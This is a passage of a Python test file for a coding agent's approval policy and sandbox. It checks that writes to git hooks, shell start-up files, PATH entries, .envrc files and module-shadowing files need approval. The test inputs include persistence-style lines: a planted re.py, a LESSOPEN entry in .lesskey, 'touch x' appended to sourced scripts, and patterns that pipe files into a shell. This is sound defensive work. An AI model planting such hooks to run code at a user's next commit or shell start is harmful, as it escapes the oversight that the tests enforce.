    "python3 -m scripts.p": "scripts/p.py",
    "bash -e -c 'scripts/q.sh --fix'": "scripts/q.sh",
    "npx --no -- scripts/r.sh": "scripts/r.sh",
    "make -C sub lint": "sub/Makefile",
    "make lint": "Makefile",
    "env -C elsewhere scripts/s.sh": "scripts/s.sh",
    "gmake -f build/x.mk --file=build/y.mk": "build/y.mk",
    "sh -- scripts/t.sh": "scripts/t.sh",
    "nice " * 20 + "scripts/u.sh": "scripts/u.sh",
}


def test_every_command_of_a_hook_is_read_through_keywords_and_wrappers(root: Path) -> None:
    """Each simple command a hook runs, whatever shell keywords surround it (`if !`,
    `do`, `time -p`, `case`), after `cd DIR`, through a wrapper that takes a value
    (`env CI=1`, `nice -n 10`, `timeout 60`, `exec -a NAME`) or an interpreter's
    options, and the makefile `make` runs: the script is protected (each came back
    unasked and ran at the host's next commit on the old code). pre-commit's `args`
    (flow and block lists) and flow-style hooks are read with `entry`. An argument
    named like a script is protected (node may run it); a directory a command reads
    and the files it writes are not."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    for number, line in enumerate(_HOOK_SPELLINGS):
        (hooks / f"pre-commit-{number}").write_text(f"#!/bin/sh\n{line}\n")
    (hooks / "pre-push").write_text(
        "prettier --write src/ > out/log 2>&1\necho $X done/\n> out/trunc\nnode -e 'x' lib/y.js\n"
    )
    (root / ".pre-commit-config.yaml").write_text(
        "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: bash\n    args: [tools/a.sh]\n"
        "  - {id: d, name: d, entry: tools/d.sh, language: script}\n"
        "  - id: e\n    args:\n    - tools/e.sh\n    # a comment\n    entry: 'python3'\n"
        "  - id: f\n    args: []\n    entry: |\n      sh tools/f.sh\n"
    )
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {*_HOOK_SPELLINGS.values(), "tools/a.sh", "tools/d.sh", "tools/e.sh", "tools/f.sh",
                "build/x.mk", "lib/y.js"}  # fmt: skip
    assert expected <= found, expected - found
    assert not found & {"src", "out", "out/log", "out/trunc", "done", "elsewhere"}


def test_a_home_directory_in_a_root_keeps_what_its_shell_and_tools_run(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the root as (or holding) the home directory, what the user's shell, prompt,
    terminal and tools run at their next start asks, and so do the home's PATH
    directories (~/bin, ~/go/bin), which shadow programs in the next terminal."""
    home = root / "me"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = [
        "me/.oh-my-zsh/custom/x.zsh", "me/.p10k.zsh", "me/.config/direnv/direnvrc",
        "me/.config/tmux/tmux.conf", "me/.config/starship.toml", "me/.gnupg/gpg-agent.conf",
        "me/.cargo/bin/git", "me/.pyenv/shims/python", "me/.gdbinit", "me/.psqlrc",
        "me/.config/kitty/kitty.conf", "me/.local/share/applications/x.desktop",
        "me/bin/ls", "me/go/bin/git",
        # less's key file (its #env sets LESSOPEN: git's pager runs it), lesspipe's filter,
        # bash-completion's and zsh's compiled start-up files
        "me/.lesskey", "me/.config/lesskey", "me/.less", "me/.lessfilter",
        "me/.bash_completion", "me/.local/share/bash-completion/completions/git",
        "me/.zshrc.zwc", "me/.zcompdump-host-5.9",
        # what tool installers have the start-up files source, and rustup's toolchains
        "me/.cargo/env", "me/.nvm/nvm.sh", "me/.sdkman/bin/sdkman-init.sh", "me/.fzf.bash",
        "me/.ghcup/env", "me/.deno/env", "me/.rustup/toolchains/stable/bin/cargo",
        # editors', IDEs' and tools' start-up code and the programs their files name
        "me/.config/emacs/init.el", "me/.vscode-server/extensions/x/extension.js",
        "me/.local/share/JetBrains/Idea/p.jar", "me/.config/sublime-text/Packages/User/p.py",
        "me/.gitk", "me/.terraformrc", "me/.config/containers/containers.conf",
        "me/.config/mpv/scripts/x.lua", "me/.tigrc", "me/.config/gcloud/x", "me/.gemrc",
        "me/.bundle/config", "me/.cargo/credentials.toml", "me/.config/ranger/rc.conf",
    ]  # fmt: skip
    for path in [*asked, "bin/ls", "me/src/bin/tool", "me/notes.txt"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)  # (no event loop: judged at once)
        assert decision.allowed is (path not in asked), path


def test_path_directories_and_the_interpreter_in_a_root_ask_and_never_run(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PATH directories inside a root (absolute, relative to it, through a link) and the
    running interpreter's prefix there ask the write tool: the user's next terminal, and
    Prism, would run what is written. Prism's own programs are never found there: not
    through such an entry, a relative one, nor a link from outside to a root's file."""
    from prism.coding.security._executables import host_program
    from prism.coding.security._limits import prlimit_args

    (root / "bin").mkdir()
    (root / "linked").symlink_to(root / "sub", target_is_directory=True)
    (root / "sub").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("git", "prlimit"):
        (root / "bin" / name).write_text("#!/bin/sh\n")
        (root / "bin" / name).chmod(0o755)
        (outside / name).symlink_to(root / "bin" / name)
    real = {name: os.path.realpath(shutil.which(name) or "") for name in ("git", "prlimit")}
    path = os.pathsep.join(["bin", str(root / "bin"), str(outside), str(root / "linked"),
                            "tools/bin", "..", str(root), os.environ["PATH"]])  # fmt: skip
    monkeypatch.setenv("PATH", path)
    monkeypatch.setattr(sys, "prefix", str(root / "env"))
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["bin/git", "linked/x", "sub/x", "tools/bin/x", "env/lib/python3/x.py", "env/x",
             "src/bin/x", "src/tools/bin/x"]  # (relative entries: at any depth)  # fmt: skip
    for name in [*asked, "tools/x", "notes.txt"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name
    assert host_program("git") == real["git"]
    assert prlimit_args(cpu_time_s=1, memory_bytes=None, max_processes=None)[0] == real["prlimit"]


def test_search_variables_relative_entries_and_prisms_own_code_in_a_root_ask(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the loaders' and interpreters' search variables name in a root asks the write
    tool (``PYTHONPATH`` precedes the standard library and site-packages: ``src/re.py``,
    ``src/pip``, though not the project's own modules there; ``LD_LIBRARY_PATH`` the
    system's libraries), so does a relative entry of
    PATH or of such a variable at any depth (the user's shell searches it below whatever
    directory it is in), a few common programs anywhere with ``.`` on PATH, and the
    directory Prism's own modules are imported from (an editable install in the root).
    Prism's host programs get the loader's variables without the root's entries."""
    import prism
    from prism.coding.security._executables import host_environment, loader_moved

    monkeypatch.setenv("LD_LIBRARY_PATH", f"{root}/build/lib:/opt/lib::rel")
    monkeypatch.setenv("LD_PRELOAD", f"{root}/hook.so /opt/lib/ok.so")
    monkeypatch.setenv("PYTHONPATH", f"{root}/src")
    monkeypatch.setenv("PERL5LIB", "perl/lib")
    monkeypatch.setenv("CLASSPATH", f"{root}/jars/*")
    monkeypatch.setenv("BASH_ENV", f"{root}/.bash_env")
    monkeypatch.setenv("PATH", os.pathsep.join(["node_modules/.bin", ".", os.environ["PATH"]]))
    monkeypatch.setattr(prism, "__path__", [*prism.__path__, str(root / "pkgs" / "src" / "prism")])
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["build/lib/libz.so.1", "hook.so", "src/re.py", "src/pip/__main__.py", "jars/x.jar",
             "perl/lib/strict.pm", "a/perl/lib/strict.pm", ".bash_env", "node_modules/.bin/git",
             "pkg/node_modules/.bin/git", "pkg/git", "pkgs/src/prism/coding/x.py"]  # fmt: skip
    # (the directory on PYTHONPATH is the project's own source: its modules stay writable)
    for name in [*asked, "build/x.o", "README.md", "pkgs/src/other.py", "pkg/index.js",
                 "src/app/main.py", "src/app.py"]:  # fmt: skip
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name
    env = host_environment()
    assert (env["LD_LIBRARY_PATH"], env["LD_PRELOAD"]) == ("/opt/lib", "/opt/lib/ok.so")
    monkeypatch.setenv("LD_PRELOAD", f"{root}/hook.so")
    assert "LD_PRELOAD" not in host_environment()
    argv, moved = loader_moved(["bwrap", "--x"], {"LD_AUDIT": "a", "PATH": "p"})
    assert (argv, moved) == (["bwrap", "--setenv", "LD_AUDIT", "a", "--x"], {"PATH": "p"})


def test_the_root_itself_on_path_or_pythonpath_keeps_what_shadows_the_hosts_own(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the root itself on PYTHONPATH (``export PYTHONPATH=$PWD``) a standard module's
    name at its top asks the write tool (as a module, a package, compiled, an extension):
    it precedes the standard library in every python the user starts; with the root on
    PATH, a common program's name. The root's other files stay writable."""
    monkeypatch.setenv("PYTHONPATH", str(root))
    monkeypatch.setenv("PATH", os.pathsep.join([str(root), os.environ["PATH"]]))
    policy = create_coding_approval_policy(roots=[str(root)])
    extension = f"subprocess{importlib.machinery.EXTENSION_SUFFIXES[0]}"
    asked = ["re.py", "json/__init__.py", "typing.pyc", "sitecustomize.py", "_strptime.py",
             extension, "git", "python3"]  # fmt: skip
    for name in [*asked, "main.py", "src/re.py", "app/json/x.py", "tests/test_re.py"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name


def test_what_replaces_a_standard_module_where_python_m_starts_asks(root: Path) -> None:
    """``python3 -m pip`` (``-c``, the interactive interpreter) searches the directory it
    starts in first: at the top and each repository's top, a standard module's name (or
    a tool's run as a module) as a module, compiled, an extension or a package's
    ``__init__`` asks the write tool. A directory of such a name without an ``__init__``
    (a namespace package, which replaces nothing) and the root's other files stay
    writable."""
    subprocess.run(["git", "init", "-q", str(root / "sub")], check=True)
    # the attack is real: the interpreter runs a re.py it starts beside
    (root / "re.py").write_text("print('PLANTED')\n")
    ran = subprocess.run(
        [sys.executable, "-m", "venv", "--help"], cwd=root, capture_output=True, text=True,
        check=False,
    )  # fmt: skip
    assert "PLANTED" in ran.stdout, (ran.stdout, ran.stderr)
    (root / "re.py").unlink()
    policy = create_coding_approval_policy(roots=[str(root)])
    extension = f"subprocess{importlib.machinery.EXTENSION_SUFFIXES[0]}"
    asked = ["re.py", "argparse/__init__.py", "json.pyc", "pip/__init__.py", extension,
             "sub/re.py", "sub/typing/__init__.py", "sitecustomize.py"]  # fmt: skip
    kept = ["main.py", "src/re.py", "build/x.o", "html/index.html", "types.ts", "json.txt",
            "tests/test_re.py", "sub/app.py"]  # fmt: skip
    for name in [*asked, *kept]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(name,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (name not in asked), name
    # one entry a top, not one a name (a root of 256 repositories made 500,000 before)
    from prism.coding.security._pymodules import MODULE_SHADOWS

    found = implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS))
    assert sorted(e for e in found if MODULE_SHADOWS in e) == [
        MODULE_SHADOWS,
        f"sub/{MODULE_SHADOWS}",
    ]


def _home_with_startup_files(home: Path) -> None:
    """A home whose start-up files source, run and put on PATH files of their own."""
    (home / "tools").mkdir(parents=True)
    (home / ".profile").write_text(
        'if [ -f "$HOME/tools/env.sh" ]; then . "$HOME/tools/env.sh"; fi\n'
        'export PATH="${HOME}/mybin:$HOME/.local/opt/bin:$PATH"\n'
    )
    (home / ".bashrc").write_text(
        "source ~/tools/aliases.sh\n"
        'eval "$(~/opt/starship/bin/starship init bash)"\n'
        "[ -r ./rel/init.sh ] && . ./rel/init.sh\n"
    )
    # a sourced file sources another in turn
    (home / "tools" / "env.sh").write_text('. "$HOME/deeper/more.sh"\n')
    # installers' snippets name their directories through variables of their own
    (home / ".zshrc").write_text(
        'export PNPM_HOME="$HOME/.local/share/pnpm"\n'
        'case ":$PATH:" in *":$PNPM_HOME:"*) ;; *) export PATH="$PNPM_HOME:$PATH" ;; esac\n'
        'ZINIT_HOME="${XDG_DATA_HOME:-${HOME}/.local/share}/zinit/zinit.git"\n'
        'source "${ZINIT_HOME}/zinit.zsh"\n'
        'PATH+=":$HOME/.tools/bin"\n'
        "path=(~/.zbin $path)\n"
        'for rc in ~/rc.d/*.sh; do . "$rc"; done\n'
    )
    # what it hands to later programs: variables naming files or programs, aliases, a
    # helper that sources its argument, a brace list of files sourced in turn
    (home / ".bash_profile").write_text(
        'export PAGER="$HOME/.tools/pager"\nexport EDITOR=~/.tools/editor\n'
        'export PYTHONSTARTUP=~/.pythonrc.py\nexport LD_PRELOAD="$HOME/.tools/lib/hook.so"\n'
        "alias ll='~/.tools/ll -la'\n"
        'source_if() { [ -r "$1" ] && . "$1"; }\nsource_if ~/.aliases.sh\n'
        'for file in ~/.{exports,functions}; do [ -r "$file" ] && . "$file"; done\n'
    )


def test_what_the_homes_start_up_files_source_run_or_put_on_path_asks(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the home in a root, the files its start-up files source (in turn too), the
    programs they run by path and the directories they put on PATH ask, as the
    start-up files themselves do; a change the user makes to one is read again."""
    home = root / "me"
    _home_with_startup_files(home)
    monkeypatch.setenv("HOME", str(home))
    asked = [
        "me/tools/env.sh", "me/deeper/more.sh", "me/tools/aliases.sh", "me/rel/init.sh",
        "me/opt/starship/bin/starship", "me/mybin/git", "me/.local/opt/bin/ls",
        "me/.local/share/pnpm/ls", "me/.local/share/zinit/zinit.git/zinit.zsh",
        "me/.tools/bin/ls", "me/.zbin/ls", "me/rc.d/x.sh",
        "me/.tools/pager", "me/.tools/editor", "me/.pythonrc.py", "me/.tools/lib/hook.so",
        "me/.tools/ll", "me/.aliases.sh", "me/.exports", "me/.functions", "me/.bazelrc",
    ]  # fmt: skip
    later = "me/later/hook.sh"

    def allowed(path: str) -> bool:
        policy = create_coding_approval_policy(roots=[str(root)])
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)  # (no event loop: judged at once)
        return decision.allowed

    for path in [*asked, later, "me/tools/other.sh", "me/notes.txt", "tools/env.sh", ".exports"]:
        assert allowed(path) is (path not in asked), path
    with (home / ".bashrc").open("a") as handle:
        handle.write(". ~/later/hook.sh\n")
    assert not allowed(later)


@pytest.mark.bwrap
async def test_a_confined_command_cannot_plant_what_the_homes_shell_or_pager_runs(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, run_shell: RunShell
) -> None:
    """Over the private layer, writes to less's key file and to a file the home's
    .profile sources are left out and reported; an ordinary file comes back."""
    home = root / "me"
    _home_with_startup_files(home)
    monkeypatch.setenv("HOME", str(home))
    before = (home / "tools" / "env.sh").read_bytes()
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    line = (
        "printf '#env\\nLESSOPEN=|-touch x %s\\n' > me/.lesskey; "
        "echo 'touch x' >> me/tools/env.sh; echo 'touch x' > me/deeper/more.sh; "
        "echo ok > me/notes.txt"
    )
    _, output = await run_shell(ops, line, root)
    assert not (home / ".lesskey").exists()
    assert (home / "tools" / "env.sh").read_bytes() == before
    assert not (home / "deeper").exists()
    assert "me/.lesskey" in output, output
    assert "me/tools/env.sh" in output, output
    assert (home / "notes.txt").read_text() == "ok\n"


def test_what_a_hook_runs_through_runners_includes_and_js_configurations_is_protected(
    root: Path,
) -> None:
    """A script given to a runner not known by name (`uv run`, `npx tsx`, `php`,
    `find -exec`, `eval`, `java -jar`), a makefile a makefile includes, a script named
    from the work tree's top as hooks spell it, and the commands of lint-staged's JS
    configuration: each protected (each came back from a confined rewrite and ran at
    the user's next commit before). The files a hook only adds to the index are not."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    runs = {
        "uv run scripts/a.py": "scripts/a.py",
        "npx tsx scripts/b.ts": "scripts/b.ts",
        "deno run --allow-read scripts/c.ts": "scripts/c.ts",
        "php scripts/d.php": "scripts/d.php",
        "find . -name '*.py' -exec scripts/f.sh {} +": "scripts/f.sh",
        "eval scripts/g.sh": "scripts/g.sh",
        "poetry run python scripts/i.py": "scripts/i.py",
        "java -jar tools/t.jar": "tools/t.jar",
        "Rscript scripts/u.R": "scripts/u.R",
        "bun check.ts": "check.ts",
        'exec "$(git rev-parse --show-toplevel)/tools/check.sh"': "tools/check.sh",
        "`git rev-parse --show-toplevel`/tools/other": "tools/other",
        "make lint": "mk/rules.mk",
        "npx lint-staged": "scripts/staged.sh",
    }
    lines = [*runs, "git add docs/notes.txt", "cp docs/a.md docs/b.md"]
    (hooks / "pre-commit").write_text("#!/bin/sh\n" + "\n".join(lines) + "\n")
    (root / "Makefile").write_text("include mk/rules.mk\n-include mk/local.mk\n")
    (root / "mk").mkdir()
    (root / "mk" / "rules.mk").write_text("sinclude mk/more.mk\nlint:\n\t@echo ok\n")
    (root / "lint-staged.config.js").write_text(
        "module.exports = {\n  '*.py': ['sh scripts/staged.sh', \"uv run scripts/lint.py\"],\n};\n"
    )
    (root / "docs").mkdir()
    for name in ("notes.txt", "a.md", "b.md"):
        (root / "docs" / name).write_text("x\n")
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {*runs.values(), "mk/local.mk", "mk/more.mk", "scripts/lint.py"}
    assert expected <= found, expected - found
    assert not found & {"docs/notes.txt", "docs/a.md", "docs/b.md", "docs"}


def test_what_a_hook_runs_through_make_recipes_task_runners_and_its_own_spellings(
    root: Path,
) -> None:
    """A make recipe's program behind make's @ prefix, `$(MAKE) -C sub` and the
    recipe's program relative to sub, the top kept in a variable or asked with a
    redirection, the hook's own directory (`$(dirname "$0")`), task runners' files
    (`uv run tox`, `just`) and `go run`'s package: each protected (each came back from
    a confined rewrite and ran at the user's next commit before)."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(
        "#!/bin/sh\n"
        'ROOT="$(git rev-parse --show-toplevel)"\n"$ROOT/scripts/a.sh"\n'
        '"$(dirname "$0")/../../scripts/b.sh"\n'
        'sh "$(git rev-parse --show-toplevel 2>/dev/null)/scripts/c.sh"\n'
        "make -s lint\nuv run tox -e lint\njust check\ngo run ./cmd/lint\n"
    )
    (root / "Makefile").write_text("lint:\n\t@./scripts/d.sh\n\t$(MAKE) -s -C sub check\n")
    (root / "sub").mkdir()
    (root / "sub" / "Makefile").write_text("check:\n\t@../scripts/e.sh\n")
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {f"scripts/{n}.sh" for n in "abcde"} | {
        "sub/Makefile", "tox.ini", "justfile", "cmd/lint",
    }  # fmt: skip
    assert expected <= found, expected - found


def test_files_a_hook_runs_as_code_made_of_data_are_protected(root: Path) -> None:
    """A hook that pipes a file into a shell (`cat x | sh`), runs code a substitution
    makes (`sh -c "$(cat x)"`, `eval "$(cat x)"`, `sh -c "$(< x)"`), gives an
    interpreter its script on standard input or through a process substitution, or
    names its script without a slash (`sh lint`, opened where the hook runs): each
    file it reads that way is protected (each was writable unasked, and the user's
    next commit ran what the agent wrote there). A hook that only reads files with
    the same programs, and runs no code made of them, protects none of them."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    runs = {
        "cat s/a | sh": "s/a",
        'sh -c "$(cat s/b)"': "s/b",
        'eval "$(cat s/c)"': "s/c",
        'sh -c "$(< s/d)"': "s/d",
        "tr -d x < s/e | bash -s -- arg": "s/e",
        "python3 - < s/f": "s/f",
        ". <(cat s/g)": "s/g",
        "source /dev/stdin < s/h": "s/h",
        "bash <s/i": "s/i",
        "if true; then cat s/j; fi | dash": "s/j",
        "sh lint": "lint",
    }
    (hooks / "pre-commit").write_text("#!/bin/sh\n" + "\n".join(runs) + "\n")
    (hooks / "pre-push").write_text("#!/bin/sh\ncat docs/a.txt | wc -l\ngrep x < docs/b.txt\n")
    for name in [*runs.values(), "docs/a.txt", "docs/b.txt"]:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("touch owned\n")
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    assert set(runs.values()) <= found, set(runs.values()) - found
    assert not found & {"docs/a.txt", "docs/b.txt", "arg"}, found
    _git("init", "-q", str(root))
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in ("s/a", "lint", "docs/a.txt"):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is path.startswith("docs/"), (path, decision)


def test_what_an_envrc_runs_is_protected(root: Path) -> None:
    """direnv evaluates an allowed `.envrc` with bash at every `cd` into its directory:
    the scripts it sources (and theirs in turn), the directories it puts on PATH, the
    files `use nix` / `use flake` / `layout python` / devbox evaluate or put on PATH,
    its dotenv files and the scripts it runs by path are protected, at the root's top
    (a repository or not) and a nested repository's top (each came back from a confined
    rewrite and ran at the user's next `cd`). What it only names as data is not."""
    _write_files(
        root,
        {
            ".envrc": "source_env scripts/env.sh\nPATH_add tools bin2\nuse nix\nuse flake\n"
            "layout python3\ndotenv_if_exists .env.dev\ndotenv\n./scripts/check\n"
            'eval "$(devbox generate direnv --print-envrc)"\nexport DATA=docs/notes.txt\n',
            "scripts/env.sh": "source_env ../more/deep.sh\n",
            "more/deep.sh": "export X=1\n",
            "svc/.envrc": "source_env_if_exists ./local.sh\n",
            "svc/local.sh": "export Y=1\n",
        },
    )
    _git("init", "-q", str(root / "svc"))
    found = set(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    expected = {
        "scripts/env.sh", "more/deep.sh", "tools", "bin2", "shell.nix", "default.nix",
        "flake.nix", "flake.lock", ".direnv", ".env.dev", ".env", "scripts/check",
        "devbox.json", "devbox.lock", "svc/local.sh",
    }  # fmt: skip
    assert expected <= found, expected - found
    assert "docs/notes.txt" not in found
    policy = create_coding_approval_policy(roots=[str(root)])
    for path, allowed in (("tools/git", False), ("more/deep.sh", False), ("docs/x.md", True)):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is allowed, (path, decision)
    # a script sourced later is read again (the files read are the answer's key)
    (root / "more" / "deep.sh").write_text("source ./later.sh\n")
    assert "more/later.sh" in implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS))


def test_every_envrc_of_the_root_is_read_from_its_own_directory(root: Path) -> None:
    """direnv loads the nearest `.envrc` at any depth (a monorepo's `services/api/.envrc`
    at `cd services/api`), with its directory as `$PWD`: what each sources is
    protected, and so are `PATH="$PWD/bin2:$PATH"` and a file sourced beside it
    through `$(dirname "${BASH_SOURCE[0]}")`, `PATH_add "$(pwd)/e1"`, a relative PATH
    entry, `use flake ./nix#dev`'s flake and `use nix env/shell.nix` (each came back
    from a confined rewrite and ran at the user's next `cd`). One made after the walk
    is read too."""
    _write_files(
        root,
        {
            "services/api/.envrc": "source_env scripts/env.sh\n",
            "services/api/scripts/env.sh": "export API_ENV=dev\n",
            ".envrc": 'export PATH="$PWD/bin2:$PATH"\n'
            'source "$(dirname "${BASH_SOURCE[0]}")/y.sh"\nPATH=rel/bin:$PATH\n'
            'export PATH=$PATH:./d1\nPATH_add "$(pwd)/e1"\nuse flake ./nix#dev\n'
            "use nix env/shell.nix\n",
            "y.sh": "true\n",
            "web/x.txt": "",
        },
    )
    matcher = ProtectedPaths(PROTECTED_PATHS)
    found = set(implied_protected(str(root), matcher))
    expected = {
        "services/api/scripts/env.sh", "bin2", "y.sh", "rel/bin", "d1", "e1",
        "nix/flake.nix", "nix/flake.lock", "env/shell.nix",
    }  # fmt: skip
    assert expected <= found, expected - found
    assert not {"web", "web/x.txt", "services/api"} & found
    (root / "web" / ".envrc").write_text("source ./later.sh\n")
    assert "web/later.sh" in implied_protected(str(root), matcher)
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in ("services/api/scripts/env.sh", "y.sh", "bin2/vim"):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed, (path, decision)


def test_a_hooks_callee_reached_through_a_link_is_protected_where_it_leads(root: Path) -> None:
    """A hook's `./scripts/check.sh` with `scripts -> tools`, `./bin/lint -> ../real/lint.py`
    and `sh ci/run.sh -> ../shared.sh`: what each leads to is protected as well as the
    name the hook spells (the targets' rewrites came back and ran at the user's next
    commit), and a target is read in turn for what it runs."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(
        "#!/bin/sh\n./scripts/check.sh && ./bin/lint && sh ci/run.sh\n"
    )
    _write_files(
        root,
        {
            "tools/check.sh": "#!/bin/sh\ntrue\n",
            "real/lint.py": "#!/bin/sh\n./more/deep.sh\n",
            "shared.sh": "true\n",
            "more/deep.sh": "true\n",
        },
    )
    (root / "scripts").symlink_to("tools")
    (root / "bin").mkdir()
    (root / "bin" / "lint").symlink_to("../real/lint.py")
    (root / "ci").mkdir()
    (root / "ci" / "run.sh").symlink_to("../shared.sh")
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {
        "scripts/check.sh", "tools/check.sh", "bin/lint", "real/lint.py", "ci/run.sh",
        "shared.sh", "more/deep.sh",
    }  # fmt: skip
    assert expected <= found, expected - found


def test_a_hooks_callees_spelled_with_its_working_directory_or_make_variables(
    root: Path,
) -> None:
    """A hook's `"$PWD/scripts/a.sh"`, `$(pwd)/...`, `${PWD}/...`, `` `pwd`/... `` (it runs at
    the top), and in a makefile the hook runs, make's `$(CURDIR)`, `$(shell pwd)` kept
    in a variable, `./$(SCRIPTS)/x.sh` with `SCRIPTS = scripts` and `$(PY) -m tools.d`
    with `PY ?= python3`: each protected (each came back from a confined rewrite and ran
    at the user's next commit)."""
    from prism.coding.security import _callees

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(
        '#!/bin/sh\n"$PWD/scripts/a.sh"\n$(pwd)/scripts/b.sh\n"${PWD}/scripts/c.sh"\n'
        "`pwd -P`/scripts/d.sh\nmake -s lint\n"
    )
    (root / "Makefile").write_text(
        "SCRIPTS = scripts\nTOP := $(shell pwd)\nPY ?= python3\nPY ?= python2\n"
        "lint:\n\t$(CURDIR)/scripts/e.sh\n\t$(TOP)/scripts/f.sh\n\t./$(SCRIPTS)/g.sh\n"
        "\t$(PY) -m tools.h\n"
    )
    top = str(root)
    found = set(_callees.hook_callees(top, [str(hooks)], top, []))
    expected = {f"scripts/{n}.sh" for n in "abcdefg"} | {"tools/h.py"}
    assert expected <= found, expected - found


def test_tool_configurations_editors_load_as_code_are_protected(root: Path) -> None:
    """Linters', formatters' and test runners' configurations that are code (an editor's
    extension loads them on opening or saving a file; lint-staged's linters at each
    commit), an sbt build's JVM options and plugins and `.bazelrc`: each asks, at any
    depth (each came back from a confined write and ran: the user's next pylint ran a
    planted init-hook). Their data-only kin and ordinary sources stay writable."""
    policy = create_coding_approval_policy(roots=[str(root)])
    asks = [
        ".pylintrc", "pkg/pylintrc", "eslint.config.js", "web/eslint.config.mts",
        ".eslintrc.cjs", "prettier.config.mjs", ".prettierrc.js", "stylelint.config.js",
        "jest.config.ts", "vitest.config.ts", "lint-staged.config.js", ".jvmopts",
        ".sbtopts", "project/plugins.sbt", "project/Deps.scala", ".bazelrc", "babel.config.js",
        ".babelrc.js", "vite.config.ts", ".markdownlint-cli2.cjs", ".markdownlint.cjs",
        "tailwind.config.js", "playwright.config.ts", ".mocharc.js", "mypy.ini", ".mypy.ini",
        ".flake8",
    ]  # fmt: skip
    writable = ["src/app.config.js", ".eslintignore", ".prettierignore", "src/project/x.py"]
    for path in asks + writable:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path in writable), (path, decision)


def test_variables_that_nest_expand_within_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    """A makefile (or a shell text) whose variables name others many times each: three
    rounds of expansion multiplied a 4.8 kB makefile to 10 MB (an 18 kB one exhausted
    memory) in the write tool's first check. Past EXPANDED_MAX characters the rest of the
    references stay as written; what expands within it still does."""
    from prism.coding.security import _callees
    from prism.coding.security._commands import parse_script as _parse_script

    makefile = (
        "lint:\n\t./$(D)/a.sh\n\t" + "$(A)" * 4000 + "\nA = " + "$(B)" * 300 + "\nB = "
        + "$(C)" * 300 + "\nC = x\nD = scripts\n"
    )  # fmt: skip
    expanded = _callees._make_expanded(makefile)
    assert len(expanded) <= _callees.EXPANDED_MAX
    assert "./scripts/a.sh" in expanded
    # thousands of substitutions left as written cost the shell parser seconds (each
    # word's substitutions are parsed one within another): the rough split reads them
    parsed: list[str] = []

    def counted(text: str) -> object:
        parsed.append(text)
        return _parse_script(text)

    monkeypatch.setattr(_callees, "parse_script", counted)
    many = "lint:\n\t" + "$(A)" * 1000 + "\n./scripts/x.sh\n"
    assert "./scripts/x.sh" in _callees.programs_run(many)
    assert "./scripts/y.sh" in _callees.programs_run("$(A)\n./scripts/y.sh\n")
    assert len(parsed) == 1
    shell = (
        "A=" + "$B" * 4000 + "\nB=" + "$C" * 4000 + "\nC=" + "x" * 100 + "\nD=tools\n$D/x.sh $A\n"
    )
    expanded = _callees.expand_assignments(shell, {})
    assert len(expanded) <= _callees.EXPANDED_MAX
    assert "tools/x.sh" in expanded


def test_other_spellings_of_the_top_in_a_hook_name_its_callee(root: Path) -> None:
    """An expansion followed by a path that names a file at the top (`"$(realpath
    .)/x"`, `"${PWD%/}/x"`, `"$(git rev-parse --git-common-dir)/../x"`, a `cd`-and-`pwd`
    substitution): the file is kept (each came back from a confined rewrite and ran at
